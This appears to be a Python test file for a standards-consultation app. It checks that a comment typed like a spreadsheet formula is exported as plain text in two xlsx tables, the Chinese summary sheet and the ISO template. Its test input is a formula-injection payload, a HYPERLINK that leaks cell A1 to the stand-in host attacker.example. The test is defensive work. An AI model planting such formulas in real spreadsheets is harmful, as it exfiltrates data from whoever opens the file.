"""A comment that reads like a spreadsheet formula comes out of the 汇总处理表 and the ISO template as
the text its author typed: openpyxl would otherwise store it as a formula that Excel runs."""

from __future__ import annotations

import io

import openpyxl
from app_testing import login

HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A1,"点此查看")'


def test_a_formula_typed_as_a_comment_stays_text_in_both_xlsx_tables(
    in_consultation, member, secretariat, app, comment_on
):
    comment_on(in_consultation, member, "scope", "基本要求", comment=HOSTILE)
    client = app.test_client()
    login(client, secretariat)
    for path in ("comment-table.xlsx", "iso-comments.xlsx"):
        sheet = openpyxl.load_workbook(
            io.BytesIO(client.get(f"/standards/{in_consultation.id}/{path}").data)
        ).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
        typed = [cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
        assert typed, path
        assert all(cell.data_type == "s" for cell in typed), path
        assert not [cell for cell in cells if cell.data_type == "f"], path
